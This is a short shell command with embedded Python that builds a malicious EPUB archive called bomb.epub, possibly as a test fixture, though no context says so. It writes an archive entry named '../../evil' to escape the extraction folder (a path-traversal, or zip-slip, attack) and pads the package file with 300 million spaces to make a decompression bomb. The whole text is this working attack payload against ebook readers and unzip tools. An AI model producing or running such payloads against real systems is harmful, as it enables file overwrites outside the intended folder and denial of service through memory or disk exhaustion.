python3 - <<'END'
import zipfile
with zipfile.ZipFile("../home/bomb.epub", "w", zipfile.ZIP_DEFLATED) as book:
    book.writestr("mimetype", "application/epub+zip")
    container = "urn:oasis:names:tc:opendocument:xmlns:container"
    root = '<rootfile full-path="x.opf" media-type="application/oebps-package+xml"/>'
    book.writestr("META-INF/container.xml", f'<container xmlns="{container}"><rootfiles>{root}</rootfiles></container>')
    book.writestr("../../evil", "out of the archive")
    book.writestr("x.opf", "<package>" + " " * 300_000_000 + "</package>")
END
